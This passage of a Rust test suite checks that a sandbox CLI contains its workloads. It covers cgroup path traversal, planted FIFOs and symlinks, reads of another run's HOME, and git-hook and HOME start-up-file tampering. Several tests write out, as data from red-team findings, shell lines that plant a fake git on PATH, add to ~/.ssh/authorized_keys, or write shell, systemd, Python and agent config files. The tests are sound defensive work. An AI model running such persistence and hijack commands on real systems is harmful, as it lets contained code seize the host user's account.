    // planted here: a regression would signal every process of the host).
    fs::write(fake.join("cgroup.procs"), format!("{}\n", victim.id())).unwrap();
    let host_dir = root.join("host-state");
    fs::create_dir_all(host_dir.join("sbx-0000dead-1")).unwrap();
    let fifo = nix::sys::stat::Mode::from_bits_truncate(0o600);
    for (n, kind) in ["traversal", "fifo", "symlink"].iter().enumerate() {
        let d = area.scratch.join(format!("sandbox-executors-00000000000000a{n}"));
        fs::create_dir(&d).unwrap();
        match *kind {
            "traversal" => {
                fs::create_dir_all(d.join("state/sbx-0000dead-1")).unwrap();
                fs::write(d.join("cgroup-parent"), format!("/../../../../..{}", root.join("fake").display())).unwrap();
                fs::write(d.join("lock"), "").unwrap();
            }
            "fifo" => {
                nix::unistd::mkfifo(&d.join("lock"), fifo).unwrap();
                nix::unistd::mkfifo(&d.join("cgroup-parent"), fifo).unwrap();
            }
            _ => std::os::unix::fs::symlink(&host_dir, d.join("state")).unwrap(),
        }
        fs::File::open(&d)
            .unwrap()
            .set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(600))
            .unwrap();
    }
    let start = std::time::Instant::now();
    let mut child = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args(["run", "--scratch"])
        .arg(&area.scratch)
        .args(["--", "/bin/true"])
        .spawn()
        .unwrap();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if start.elapsed() > std::time::Duration::from_secs(60) {
            let _ = child.kill();
            panic!("sandbox run hung on the planted scratch root");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert_eq!(status.code(), Some(0));
    assert!(
        fs::read_to_string(format!("/proc/{}/stat", victim.id())).is_ok_and(|s| !s.contains(") Z ")),
        "the victim was killed"
    );
    assert!(host_dir.join("sbx-0000dead-1").exists(), "removed through a planted symlink");
    assert!(fake.join("cgroup.procs").exists());
    victim.kill().unwrap();
    victim.wait().unwrap();

    // Control: a genuine leftover (the set of a `sandbox run` killed mid-run) is still swept.
    let mut killed = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args(["run", "--scratch"])
        .arg(&area.scratch)
        .args(["--", "sleep", "1000.777"])
        .spawn()
        .unwrap();
    // The workload itself (`comm` sleep), not the CLI whose argv also names it.
    let running = |needle: &str| {
        fs::read_dir("/proc").unwrap().flatten().any(|e| {
            fs::read_to_string(e.path().join("comm")).is_ok_and(|c| c.trim() == "sleep")
                && fs::read(e.path().join("cmdline"))
                    .is_ok_and(|c| String::from_utf8_lossy(&c).replace('\0', " ").contains(needle))
        })
    };
    let end = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !running("sleep 1000.777") {
        assert!(std::time::Instant::now() < end, "the run never started");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    killed.kill().unwrap();
    killed.wait().unwrap();
    let end = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while running("sleep 1000.777") {
        assert!(std::time::Instant::now() < end, "the killed run's workload survived");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let leftover: Vec<_> = fs::read_dir(&area.scratch).unwrap().flatten().map(|e| e.path()).collect();
    assert_eq!(leftover.len(), 1, "{leftover:?}");
    fs::File::open(&leftover[0])
        .unwrap()
        .set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(600))
        .unwrap();
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--scratch"),
        area.scratch.clone().into_os_string(),
        os("--"),
        os("/bin/true"),
    ]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(fs::read_dir(&area.scratch).unwrap().count(), 0, "the killed run's set was not swept");

    // A scratch root inside the (writable) workspace is refused before anything is made.
    fs::create_dir(area.ws.join("inner")).unwrap();
    let o = area.sandbox(&refs(&[os("run"), os("--scratch"), os("inner"), os("--"), os("/bin/true")]));
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.contains("scratch_root"), "{err}");
    assert_eq!(fs::read_dir(area.ws.join("inner")).unwrap().count(), 0);
    // Control: the read-only workspace lets it be.
    fs::write(
        area.ws.join("ro.json"),
        format!(
            r#"{{"workspace_root": "{}", "workspace_read": "allow", "host_read": "allow", "command": "allow"}}"#,
            area.ws.display()
        ),
    )
    .unwrap();
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--profile"),
        os("ro.json"),
        os("--scratch"),
        os("inner"),
        os("--"),
        os("/bin/true"),
    ]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
}

/// Issue 12, class 7, through the CLI: while one `sandbox run` (scratch root S1 under
/// /var/tmp, host read allowed by the CLI's default profile) keeps a file in its HOME, another
/// run on scratch root S2 cannot list S1 nor read that file. Control: each run reads its own
/// HOME, and the second reads an ordinary host file beside S1.
#[test]
fn another_runs_home_is_unreadable() {
    if !sandbox_runs_here("another_runs_home_is_unreadable") {
        return;
    }
    let area = Area::new();
    let root = area.ws.parent().unwrap().to_path_buf();
    let s2 = root.join("scratch2");
    fs::create_dir(&s2).unwrap();
    fs::write(root.join("ordinary.txt"), "ordinary\n").unwrap();
    let mut first = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args(["run", "--scratch"])
        .arg(&area.scratch)
        .args(["--", "sh", "-c", "echo b-secret > $HOME/secret; cat $HOME/secret; sleep 1000.5625"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = [0u8; 9];
    std::io::Read::read_exact(first.stdout.as_mut().unwrap(), &mut line).unwrap();
    assert_eq!(&line, b"b-secret\n", "control: the first run reads its own HOME");
    let script = format!(
        "ls {s1}; cat {s1}/sandbox-executors-*/home-*/secret; echo mine > $HOME/f; cat $HOME/f {root}/ordinary.txt",
        s1 = area.scratch.display(),
        root = root.display()
    );
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--scratch"),
        s2.clone().into_os_string(),
        os("--"),
        os("sh"),
        os("-c"),
        os(&script),
    ]));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(!out.contains("b-secret") && !out.contains("sandbox-executors"), "{out}");
    assert_eq!(out, "mine\nordinary\n", "{}", String::from_utf8_lossy(&o.stderr));
    first.kill().unwrap();
    first.wait().unwrap();
}

/// Issue 12, class 6, for the CLI's default: a run whose workspace holds the temp dir (a user in
/// `/tmp`) gets a default scratch root outside it, never one the workload could write; an
/// explicit `--scratch` inside the workspace is refused naming it (the control: the refusal is
/// real, and the fallback is what avoids it).
#[test]
fn the_default_scratch_root_avoids_a_workspace_that_holds_the_temp_dir() {
    if !sandbox_runs_here("the_default_scratch_root_avoids_a_workspace_that_holds_the_temp_dir") {
        return;
    }
    let area = Area::new();
    let tmp = area.ws.join("tmp");
    fs::create_dir(&tmp).unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .env("TMPDIR", &tmp)
        .args(["run", "--", "sh", "-c", "echo ran; ls -A tmp"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "ran\n", "nothing may be made in the workspace's temp dir");
    assert_eq!(fs::read_dir(&tmp).unwrap().count(), 0);
    let o =
        Command::new(SANDBOX).current_dir(&area.ws).args(["run", "--scratch", "tmp", "--", "true"]).output().unwrap();
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("scratch_root"), "{}", String::from_utf8_lossy(&o.stderr));
}

/// Issue 12, class 7: every run masks the scratch roots of the other live sets its view would
/// show; such a set may close and its owner remove its scratch root while a run is being
/// created. That never fails the run (measured before the fix with two shell loops: 27 of 40
/// runs failed with "failed to prepare rootfs"): runs go on while another run's scratch roots,
/// outside /tmp, come and go. The masking itself is `another_runs_home_is_unreadable`.
#[test]
fn runs_go_on_while_other_runs_scratch_roots_come_and_go() {
    use std::sync::atomic::{AtomicBool, Ordering};
    if !sandbox_runs_here("runs_go_on_while_other_runs_scratch_roots_come_and_go") {
        return;
    }
    let area = Area::new();
    let stop = AtomicBool::new(false);
    let (failures, churned) = std::thread::scope(|s| {
        let churn = s.spawn(|| {
            let mut n = 0;
            let mut failures = Vec::new();
            while !stop.load(Ordering::SeqCst) {
                let d = area.dir.path().join(format!("churn-{n}"));
                fs::create_dir(&d).unwrap();
                let o = Command::new(SANDBOX)
                    .current_dir(&area.ws)
                    .arg("run")
                    .arg("--scratch")
                    .arg(&d)
                    .args(["--", "true"])
                    .output()
                    .unwrap();
                if o.status.code() != Some(0) {
                    failures.push(format!("churn {n}: {}", String::from_utf8_lossy(&o.stderr)));
                }
                fs::remove_dir_all(&d).unwrap();
                n += 1;
            }
            (n, failures)
        });
        let mut failures = Vec::new();
        for i in 0..30 {
            let o = area.sandbox(&refs(&[
                os("run"),
                os("--scratch"),
                area.scratch.clone().into_os_string(),
                os("--"),
                os("true"),
            ]));
            if o.status.code() != Some(0) {
                failures.push(format!("run {i}: {}", String::from_utf8_lossy(&o.stderr)));
            }
        }
        stop.store(true, Ordering::SeqCst);
        let (n, mut theirs) = churn.join().unwrap();
        failures.append(&mut theirs);
        (failures, n)
    });
    assert!(failures.is_empty(), "{failures:#?}");
    assert!(churned > 0, "the other runs never ran");
}

/// Issue 14's acceptance through the CLI: `sandbox run` with the default profile inside a git
/// repository commits (`git commit -am msg`), and `.git/hooks/pre-commit` can neither be
/// created nor changed (an existing hook too).
#[test]
fn sandbox_run_in_a_git_repository_commits_and_cannot_touch_the_hooks() {
    if !sandbox_runs_here("sandbox_run_in_a_git_repository_commits_and_cannot_touch_the_hooks") {
        return;
    }
    let area = Area::new();
    let git = |args: &[&str]| {
        git_ok(&area.ws, args);
    };
    git(&["init", "-q"]);
    git(&["add", "keep.txt"]);
    git(&["commit", "-qm", "init"]);
    let scratch = area.scratch.clone().into_os_string();
    let run = |script: &str| {
        area.sandbox(&refs(&[
            os("run"),
            os("--scratch"),
            scratch.clone(),
            os("--"),
            os("/bin/sh"),
            os("-c"),
            os(script),
        ]))
    };
    let o = run("echo more >> keep.txt && git -c user.name=t -c user.email=t@t commit -qam msg && echo COMMITTED");
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("COMMITTED"));
    let log = Command::new("git").args(["log", "--format=%s"]).current_dir(&area.ws).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout), "msg\ninit\n");
    // Creating the hook fails; so does changing one that exists.
    let o = run("echo evil > .git/hooks/pre-commit");
    assert_ne!(o.status.code(), Some(0));
    assert!(!area.ws.join(".git/hooks/pre-commit").exists());
    fs::write(area.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    for script in ["echo evil >> .git/hooks/pre-commit", "rm -f .git/hooks/pre-commit", "mv .git/hooks .git/h2"] {
        let o = run(script);
        assert_ne!(o.status.code(), Some(0), "{script}");
        assert_eq!(fs::read_to_string(area.ws.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
    }
}

/// Issue 14, the real HOME's entries through the CLI: with `"home": "real"` and a writable HOME
/// (here the workspace itself, named by `HOME`), an existing `.bashrc` cannot be changed and a
/// missing `.profile`, `.gitconfig` or `.ssh/config` cannot be created; an ordinary file can.
#[test]
fn the_real_homes_start_up_files_are_protected() {
    if !sandbox_runs_here("the_real_homes_start_up_files_are_protected") {
        return;
    }
    let area = Area::new();
    fs::write(area.ws.join(".bashrc"), "ORIGINAL\n").unwrap();
    let profile = area.dir.path().join("home.json");
    let json = serde_json::json!({
        "workspace_root": area.ws, "workspace_read": "allow", "workspace_write": "allow",
        "host_read": "allow", "command": "allow", "home": "real"
    });
    fs::write(&profile, json.to_string()).unwrap();
    let script = "for a in 'echo evil >> .bashrc' 'echo evil > .profile' 'echo evil > .gitconfig' \
                  'mkdir -p .ssh && echo evil > .ssh/config'; do \
                  if sh -c \"$a\" 2>/dev/null; then echo \"wrote: $a\"; fi; done; echo ok > ordinary && echo CONTROL";
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .env("HOME", &area.ws)
        .args(["run", "--profile"])
        .arg(&profile)
        .arg("--scratch")
        .arg(&area.scratch)
        .args(["--", "/bin/sh", "-c", script])
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{out} {}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(out, "CONTROL\n", "{out}");
    assert_eq!(fs::read_to_string(area.ws.join(".bashrc")).unwrap(), "ORIGINAL\n");
    for f in [".profile", ".gitconfig", ".ssh/config"] {
        assert!(!area.ws.join(f).exists(), "{f}");
    }
}

/// The real HOME's `~/` entries whatever HOME the workload gets (red team, 3 December): with
/// the default isolated HOME and a workspace that is the caller's real HOME (`cd ~ && sandbox
/// run`), `~/.ssh/authorized_keys`, `~/.ssh/config`, `~/.ssh/rc` and `~/.config/git/config`
/// were writable (the host's sshd and git read them); and with `"home": "real"` and `HOME`
/// spelled through a symlink, the entries named the symlink's spelling and were never bound.
/// The eighth round's `~/.bash_completion`, `~/.kube/config`, `~/.aws/config`,
/// `~/.docker/config.json` and `~/.psqlrc` are tried the same way. The control: an ordinary
/// file is written.
#[test]
fn the_real_homes_entries_hold_with_an_isolated_home_and_through_a_symlink() {
    // (Red teams AV and AW, 6 December: every hidden entry of a writable real HOME, existing or
    // not: `~/.config/tmux/tmux.conf`, `~/.direnvrc`, direnv's approvals, `~/.pyenv/shims`,
    // `~/.ssh/authorized_keys2`; and `~/go/bin`.)
    if !sandbox_runs_here("the_real_homes_entries_hold_with_an_isolated_home_and_through_a_symlink") {
        return;
    }
    let area = Area::new();
    let link = area.dir.path().join("home-link");
    std::os::unix::fs::symlink(&area.ws, &link).unwrap();
    fs::create_dir_all(area.ws.join(".ssh")).unwrap();
    fs::write(area.ws.join(".ssh/authorized_keys"), "ORIGINAL\n").unwrap();
    fs::write(area.ws.join(".existing"), "ORIGINAL\n").unwrap();
    fs::create_dir_all(area.ws.join("proj")).unwrap();
    let script = "mkdir -p .ssh .config; for a in 'echo evil >> .ssh/authorized_keys' 'echo evil > .ssh/config' \
                  'echo evil > .ssh/rc' 'mkdir -p .config/git && echo evil > .config/git/config' \
                  'echo evil > .bash_completion' 'mkdir -p .kube && echo evil > .kube/config' \
                  'mkdir -p .aws && echo evil > .aws/config' 'mkdir -p .docker && echo evil > .docker/config.json' \
                  'echo evil > .psqlrc' 'echo evil > .ssh/authorized_keys2' 'echo evil > .direnvrc' \
                  'mkdir -p .config/tmux && echo evil > .config/tmux/tmux.conf' 'echo evil > .inputrc' \
                  'mkdir -p .local/share/direnv/allow && echo x > .local/share/direnv/allow/h' \
                  'mkdir -p .pyenv/shims && echo evil > .pyenv/shims/git' 'mv proj .proj' 'ln -s proj .x' \
                  'echo evil >> .existing' 'rm .existing' 'mkdir -p go/bin && echo evil > go/bin/git'; do \
                  if sh -c \"$a\" 2>/dev/null; then echo \"wrote: $a\"; fi; done; echo ok > ordinary && \
                  echo ok > proj/.hidden-in-a-project && echo CONTROL";
    for (home_mode, home) in [("isolated", &area.ws), ("real", &link)] {
        let profile = area.dir.path().join(format!("{home_mode}.json"));
        let json = serde_json::json!({
            "workspace_root": area.ws, "workspace_read": "allow", "workspace_write": "allow",
            "host_read": "allow", "command": "allow", "home": home_mode
        });
        fs::write(&profile, json.to_string()).unwrap();
        let o = Command::new(SANDBOX)
            .current_dir(&area.ws)
            .env("HOME", home)
            .args(["run", "--profile"])
            .arg(&profile)
            .arg("--scratch")
            .arg(&area.scratch)
            .args(["--", "/bin/sh", "-c", script])
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        assert_eq!(o.status.code(), Some(0), "{home_mode}: {out} {}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(out, "CONTROL\n", "{home_mode}: {out}");
        assert_eq!(fs::read_to_string(area.ws.join(".ssh/authorized_keys")).unwrap(), "ORIGINAL\n");
        assert_eq!(fs::read_to_string(area.ws.join(".existing")).unwrap(), "ORIGINAL\n");
        for f in [
            ".ssh/config",
            ".ssh/rc",
            ".config/git",
            ".bash_completion",
            ".kube/config",
            ".aws/config",
            ".psqlrc",
            ".ssh/authorized_keys2",
            ".direnvrc",
            ".config",
            ".inputrc",
            ".local",
            ".pyenv",
            ".proj",
            ".x",
            "go/bin/git",
        ] {
            assert!(!area.ws.join(f).exists(), "{home_mode}: {f}");
        }
        assert!(area.ws.join("proj/.hidden-in-a-project").exists(), "{home_mode}: control");
    }
}

/// `sandbox run -- /bin/sh -c script` in the area's workspace with `HOME` set to `home`: it
/// exits 0 and prints exactly `CONTROL` (every attack line it would print otherwise failed).
fn run_with_home(area: &Area, home: &std::path::Path, script: &str) {
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .env("HOME", home)
        .args(["run", "--scratch"])
        .arg(&area.scratch)
        .args(["--", "/bin/sh", "-c", script])
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{out} {}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(out, "CONTROL\n", "{out}");
}

/// The red team of 4 December (night): with the workspace at the caller's real HOME (`cd ~ &&
/// sandbox run`), the files the host runs from there later were writable: a `git` planted in
/// `~/.local/bin` (on PATH before `/usr/bin`) ran at the host's next `git status`, and so would
/// `~/.bash_aliases`, `~/.bash_logout`, fish's config, XDG autostart entries, systemd user
/// units, `~/.cargo/env` and the editors' start-up files. Each is refused now, existing or
/// not. Control: an ordinary file in the HOME is written.
#[test]
fn the_real_homes_start_up_files_and_path_directories_hold() {
    if !sandbox_runs_here("the_real_homes_start_up_files_and_path_directories_hold") {
        return;
    }
    let area = Area::new();
    fs::create_dir_all(area.ws.join(".local/bin")).unwrap();
    fs::create_dir_all(area.ws.join(".config")).unwrap();
    fs::write(area.ws.join(".bash_aliases"), "ORIGINAL\n").unwrap();
    let attacks = [
        "printf '#!/bin/sh\\necho hijacked\\n' > .local/bin/git && chmod +x .local/bin/git",
        "echo evil >> .bash_aliases",
        "echo evil > .bash_logout",
        "mkdir -p bin && echo evil > bin/git",
        "mkdir -p .cargo && echo evil > .cargo/env",
        "mkdir -p .config/fish && echo evil > .config/fish/config.fish",
        "mkdir -p .config/autostart && echo evil > .config/autostart/x.desktop",
        "mkdir -p .config/systemd/user && echo evil > .config/systemd/user/x.service",
        "mkdir -p .config/environment.d && echo evil > .config/environment.d/x.conf",
        "echo evil > .xprofile",
        "echo evil > .tmux.conf",
        "echo evil > .vimrc",
        "mkdir -p .config/nvim && echo evil > .config/nvim/init.lua",
        "mkdir -p .ssh && echo evil > .ssh/environment",
        "mkdir -p .local/lib/python3.11/site-packages && echo evil > .local/lib/python3.11/site-packages/usercustomize.py",
        "mkdir -p .cargo && echo evil > .cargo/config.toml",
        "echo evil > .npmrc",
        "echo evil > .gdbinit",
        "mkdir -p .claude && echo evil > .claude/settings.json",
        "echo evil > .claude.json",
        "mkdir -p .codex && echo evil > .codex/config.toml",
        "mkdir -p .config/Code/User && echo evil > .config/Code/User/tasks.json",
        "echo evil > .lessfilter",
    ];
    let mut script = String::new();
    for a in attacks {
        script.push_str(&format!(
            "if sh -c '{}' 2>/dev/null; then echo 'wrote: {}'; fi; ",
            a.replace('\'', "'\\''"),
            a.replace('\'', "")
        ));
    }
    script.push_str("echo ok > ordinary && echo CONTROL");
    run_with_home(&area, &area.ws, &script);
    assert_eq!(fs::read_to_string(area.ws.join(".bash_aliases")).unwrap(), "ORIGINAL\n");
    assert_eq!(fs::read_dir(area.ws.join(".local/bin")).unwrap().count(), 0);
    for f in [
        ".bash_logout",
        "bin",
        ".cargo/env",
        ".config/fish",
        ".config/autostart",
        ".xprofile",
        ".vimrc",
        ".local/lib",
        ".npmrc",
        ".claude",
    ] {
        assert!(!area.ws.join(f).exists(), "{f}");
    }
    assert_eq!(fs::read_to_string(area.ws.join("ordinary")).unwrap(), "ok\n");
}

/// The second night red team of 4 December: relative paths in the caller's global git config
/// (`core.hooksPath = .githooks`, `filter.fmt.clean = sh tools/fmt.sh`) are taken by git in
/// the repository it runs in, and were not protected there: the workload made
/// `.githooks/pre-commit` and rewrote `tools/fmt.sh`, and the host's next commit ran both.
/// Each is placed in every repository the scan finds now. Control: an ordinary file is written.
#[test]
fn the_global_git_configs_relative_paths_hold_in_every_repository() {
    if !sandbox_runs_here("the_global_git_configs_relative_paths_hold_in_every_repository") {
        return;
    }
    let area = Area::new();
    let home = area.dir.path().join("home");
    fs::create_dir(&home).unwrap();
    fs::write(
        home.join(".gitconfig"),
        "[core]\n\thooksPath = .githooks\n[filter \"fmt\"]\n\tclean = sh tools/fmt.sh\n",
    )
    .unwrap();
    let repo = area.ws.join("repo");
    fs::create_dir_all(repo.join("tools")).unwrap();
    fs::write(repo.join("tools/fmt.sh"), "cat\n").unwrap();
    let st = Command::new("git").args(["init", "-q"]).current_dir(&repo).env("HOME", &home).status().unwrap();
    assert!(st.success());
    let script = "cd repo; for a in 'mkdir -p .githooks && echo evil > .githooks/pre-commit' 'echo evil > tools/fmt.sh'; do \
                  if sh -c \"$a\" 2>/dev/null; then echo \"wrote: $a\"; fi; done; echo ok > ordinary && echo CONTROL";
    run_with_home(&area, &home, script);
    assert!(!repo.join(".githooks").exists());
    assert_eq!(fs::read_to_string(repo.join("tools/fmt.sh")).unwrap(), "cat\n");
}

/// The second night red team of 4 December: a FIFO named `.git` (or a `commondir`) made in one
/// run blocked the scan of every later run and export of the workspace in `open`. The scan
/// never blocks now: the next run and an export finish (control: they print and write). (A run
/// cannot make those FIFOs any more; the host's are the case now.)
#[test]
fn a_fifo_where_the_scan_reads_stalls_nothing() {
    if !sandbox_runs_here("a_fifo_where_the_scan_reads_stalls_nothing") {
        return;
    }
    let area = Area::new();
    let run = |args: &[&str]| {
        Command::new("timeout")
            .arg("30")
            .arg(SANDBOX)
            .current_dir(&area.ws)
            .args(args)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    // A run makes no FIFO in a git directory any more (red team AG, 5 December); one the host
    // made, or a run with the guard opted out, is still there for the scan to meet: made here
    // by the test. (A FIFO named `.git` is made by the run: git does not open one.)
    let script = "mkdir -p sub/.git && (mkfifo sub/.git/commondir 2>/dev/null && echo made); mkfifo .git && echo done";
    let o = run(&["run", "--", "/bin/sh", "-c", script]);
    assert_eq!(String::from_utf8_lossy(&o.stdout), "done\n", "{}", String::from_utf8_lossy(&o.stderr));
    assert!(Command::new("mkfifo").arg(area.ws.join("sub/.git/commondir")).status().unwrap().success());
    let o = run(&["run", "--", "/bin/echo", "next"]);
    assert_eq!(String::from_utf8_lossy(&o.stdout), "next\n", "{}", String::from_utf8_lossy(&o.stderr));
    let o = run(&["bundle", "export", "--out", "bundle", "--", "/bin/true"]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(area.ws.join("bundle/config.json").is_file());
}

/// The scan's listings kept between calls (5 December: a one-shot `sandbox run` read every
/// directory of its workspace at every call). A `.envrc` the host writes into a directory the
/// kept listings recorded without it is still found and bound read-only at the next call:
/// the workload's write to it fails (control: beside it, a write succeeds), and the kept
/// listings are there (control: the memo names the directory).
#[test]
fn kept_scan_listings_still_find_what_was_added_since() {
    if !sandbox_runs_here("kept_scan_listings_still_find_what_was_added_since") {
        return;
    }
    let area = Area::new();
    fs::create_dir_all(area.ws.join("deep/a/b")).unwrap();
    // Listings are kept only of directories unchanged for two whole seconds.
    std::thread::sleep(std::time::Duration::from_millis(3100));
    let run = |script: &str| {
        Command::new("timeout")
            .arg("30")
            .arg(SANDBOX)
            .current_dir(&area.ws)
            .args(["run", "--", "/bin/sh", "-c", script])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let o = run("ls deep/a");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "b\n", "{}", String::from_utf8_lossy(&o.stderr));
    let uid = nix::unistd::geteuid().as_raw();
    let cache = std::path::PathBuf::from(format!("/tmp/sandbox-registry-{uid}/.scan-cache"));
    let needle = area.ws.join("deep/a/b").display().to_string();
    let kept = fs::read_dir(&cache)
        .unwrap()
        .flatten()
        .any(|e| fs::read(e.path()).is_ok_and(|b| String::from_utf8_lossy(&b).contains(&needle)));
    assert!(kept, "no kept memo in {} names {needle}", cache.display());
    fs::write(area.ws.join("deep/a/b/.envrc"), "host\n").unwrap();
    let o = run("echo evil > deep/a/b/.envrc; echo $? > deep/a/b/status; echo ok > deep/a/b/beside");
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(fs::read_to_string(area.ws.join("deep/a/b/beside")).unwrap(), "ok\n");
    assert_ne!(fs::read_to_string(area.ws.join("deep/a/b/status")).unwrap(), "0\n");
    assert_eq!(fs::read_to_string(area.ws.join("deep/a/b/.envrc")).unwrap(), "host\n");
}

/// Places every sandbox masks (the per-user registry with its kept probes and scan listings,
/// the directory of a live set) are never bound over their masks (a red team, 5 December, made
/// a root of the registry's scan cache, rewrote the listings later scans trust, and so wrote a
/// protected file). A workspace or an additional root inside the registry is refused, naming
/// the path; and a protected entry inside another live set's directory, which the scan of a
/// workspace holding that directory finds, is not bound over the mask: the workload cannot read
/// it (control: a file of the workspace beside it reads).
#[test]
fn what_every_sandbox_masks_is_never_bound_over_its_mask() {
    if !sandbox_runs_here("what_every_sandbox_masks_is_never_bound_over_its_mask") {
        return;
    }
    let area = Area::new();
    // The registry exists once a run has kept something.
    let o = area.sandbox(&refs(&[os("run"), os("--"), os("/bin/true")]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let uid = nix::unistd::geteuid().as_raw();
    let cache = std::path::PathBuf::from(format!("/tmp/sandbox-registry-{uid}/.scan-cache"));
    assert!(cache.is_dir(), "{}", cache.display());
    let o = Command::new(SANDBOX).current_dir(&cache).args(["run", "--", "/bin/ls"]).output().unwrap();
    assert_eq!(o.status.code(), Some(125), "a run in the scan cache: {}", String::from_utf8_lossy(&o.stdout));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("which every sandbox masks") && err.contains(".scan-cache"), "{err}");
    let profile = area.dir.path().join("root-in-registry.json");
    let text = serde_json::json!({
        "workspace_root": area.ws, "workspace_read": "allow", "workspace_write": "allow",
        "host_read": "allow", "command": "allow",
        "additional_roots": [{"path": cache, "read": "allow", "write": "allow"}]
    });
    fs::write(&profile, text.to_string()).unwrap();
    let o = area.sandbox(&refs(&[os("run"), os("--profile"), profile.into_os_string(), os("--"), os("/bin/true")]));
    assert_eq!(o.status.code(), Some(125), "a root in the scan cache: {}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("which every sandbox masks"));

    // A live set whose scratch root lies in this workspace (a `serve` started elsewhere).
    let elsewhere = tempfile::Builder::new().prefix("sbx-cli-elsewhere").tempdir_in("/var/tmp").unwrap();
    let scratch = area.ws.join("other-scratch");
    fs::create_dir(&scratch).unwrap();
    let mut serve = Command::new(SANDBOX)
        .current_dir(elsewhere.path())
        .args(["serve", "--scratch"])
        .arg(&scratch)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let set_dir = (0..500)
        .find_map(|_| {
            let found = fs::read_dir(&scratch)
                .ok()?
                .flatten()
                .map(|e| e.path())
                .find(|p| p.file_name().is_some_and(|n| n.to_string_lossy().starts_with("sandbox-executors-")));
            if found.is_none() {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            found
        })
        .expect("serve's set directory");
    fs::write(set_dir.join(".envrc"), "secret of another set\n").unwrap();
    fs::write(area.ws.join("visible.txt"), "mine\n").unwrap();
    let script = format!("cat visible.txt; cat {}/.envrc; ls -A {}", set_dir.display(), set_dir.display());
    let o = area.sandbox(&refs(&[os("run"), os("--"), os("/bin/sh"), os("-c"), os(&script)]));
    drop(serve.stdin.take());
    let _ = serve.wait();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.starts_with("mine\n"), "control: {out} {}", String::from_utf8_lossy(&o.stderr));
    assert!(!out.contains("secret"), "another set's file was read: {out}");
    assert_eq!(out, "mine\n", "{}", String::from_utf8_lossy(&o.stderr));
}

/// A black-box test (5 December). `--profile` naming a FIFO no one writes hung every verb; it
/// is refused at once, naming `--profile`, while a pipe being written (`<(…)`) is read whole
/// (control). A call the library would refuse (an empty program, `--cwd /proc`) is refused
/// before the set is made: the cgroup parent it names is not created. `--output-limit -1` is a
/// usage error naming its flag (it read as a stray `-1`). serve's empty `cwd` is refused.
#[test]
fn bad_calls_fail_at_once_and_leave_nothing() {
    let area = Area::new();
    let fifo = area.dir.path().join("fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let fifo_s = fifo.to_str().unwrap().to_owned();
    let out = area.dir.path().join("bundle-out");
    let out_s = out.to_str().unwrap().to_owned();
    for args in [
        vec!["run", "--profile", &fifo_s, "--", "/bin/true"],
        vec!["run", "--json", "--profile", &fifo_s, "--", "/bin/true"],
        vec!["bundle", "export", "--out", &out_s, "--profile", &fifo_s, "--", "/bin/true"],
        vec!["serve", "--profile", &fifo_s],
    ] {
        let o = Command::new("timeout")
            .arg("20")
            .arg(SANDBOX)
            .args(&args)
            .current_dir(&area.ws)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(125), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
        let said = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
        assert!(said.contains("--profile") && said.contains("FIFO"), "{args:?}: {said}");
    }
    assert!(!out.exists());
